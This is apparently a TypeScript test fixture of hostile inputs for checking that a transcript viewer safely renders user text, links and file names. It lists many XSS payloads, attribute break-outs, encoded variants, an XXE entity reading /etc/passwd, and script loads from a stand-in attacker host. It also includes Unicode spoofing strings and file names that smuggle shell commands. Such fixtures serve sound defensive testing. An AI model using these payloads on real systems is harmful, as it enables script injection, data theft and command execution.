/*
 * What somebody may put into a transcript so that a reader's browser runs it, loads it or shows it as what it is not. Each
 * shape calls `ran`, which a trap in the browser counts, or asks for something from `evil.invalid`.
 */

const RUN = 'ran()';
const THERE = 'https://evil.invalid/x';

/** Elements that run a script or load something by themselves. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src=${THERE}.js></script>`,
  `<SCRIPT SRC="${THERE}.js"></SCRIPT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${THERE}.png">`,
  `"><img src=x onerror=${RUN}>`,
  `<img srcset="${THERE}.png 1x">`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="${THERE}.svg#a"/></svg>`,
  `<svg><a href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${THERE}.swf">`,
  `<link rel=stylesheet href="${THERE}.css">`,
  `<style>@import "${THERE}.css";</style>`,
  `<base href="${THERE}/">`,
  `<meta http-equiv=refresh content="0;url=${THERE}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<form action="${THERE}"><input name=a autofocus onfocus=${RUN}></form>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN} autoplay></audio>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<body onload=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<dialog open onclose=${RUN}></dialog>`,
  `<x onpointerenter=${RUN} style="position:fixed;inset:0">x</x>`,
  `<div style="background:url(${THERE}.png)">x</div>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<script type=module>import("${THERE}.js")</script>`,
  `<script type="application/ld+json">{"a":"</script><script>${RUN}</script>"}`,
];

/** What gets out of an attribute, a string or an XML document. */
const BREAK_OUTS = [
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  '` onmouseover=`' + RUN,
  `" autofocus onfocus="${RUN}" x="`,
  `x" style="position:fixed" onclick="${RUN}`,
  `";${RUN};"`,
  `';${RUN};'`,
  '${' + RUN + '}',
  '{{constructor.constructor("ran()")()}}',
  `\\";${RUN}//`,
  `"}</script><script>${RUN}</script>{"`,
  `<!--<script>${RUN}`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="${THERE}.xsl"?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
  `<x xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></x>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\u{FF1C}script\u{FF1E}${RUN}\u{FF1C}/script\u{FF1E}`,
  `<img src=x\u{2028}onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}//`,
  `<\u{0}script>${RUN}</script>`.replace('\u{0}', '\u{FFFD}'),
];

/** Text that shows as another text. */
const SPOOFS = [
  '\u{202E}eloC anaD',
  '\u{202D}Dana\u{202C} Cole',
  '\u{2066}Dana\u{2067}eloC',
  '\u{2067}host, Cole Dana',
  '\u{202E}\u{2066}gnp.x\u{2069}',
  'Dana\u{200B} Cole',
  'Da\u{200D}na Co\u{200C}le',
  'Dana\u{2060} Cole\u{FEFF}',
  'Da\u{AD}na Cole',
  '\u{200F}Dana Cole\u{200E}',
];

/** Addresses that are not to be followed, as the target of a link. */
export const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;avascript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `&#1;javascript:${RUN}`,
  `\\javascript:${RUN}`,
  `javascript://evil.invalid/%0A${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `vbscript:${RUN}`,
  `blob:https://evil.invalid/0`,
  `file:///etc/passwd`,
  `view-source:javascript:${RUN}`,
  `livescript:${RUN}`,
  `feed:javascript:${RUN}`,
  `x" onmouseover="${RUN}`,
];

/** Everything that may stand where text stands: in words, names, titles, notes. */
/** A name without spaces, by which a page could be made wider than it is. */
const UNBROKEN = 'Wolfeschlegel'.repeat(16);

export const TEXTS: readonly string[] = [
  UNBROKEN,
  ...ELEMENTS,
  ...BREAK_OUTS,
  ...SPOOFS,
  ...ADDRESSES.map((address) => `[link](${address})`),
];

/** Names of files that a shell, a page or a path would misread. */
export const FILE_NAMES = [
  `"><img src=x onerror=${RUN}>.txt`,
  `$(touch ran).txt`,
  '`touch ran`.txt',
  `; touch ran;.txt`,
  `--force.txt`,
  `' onmouseover='${RUN}.txt`,
  `\u{202E}txt.exe.txt`,
  `..%2f..%2fran.txt`,
  `javascript:${RUN}.txt`,
  `a\nb.txt`,
];
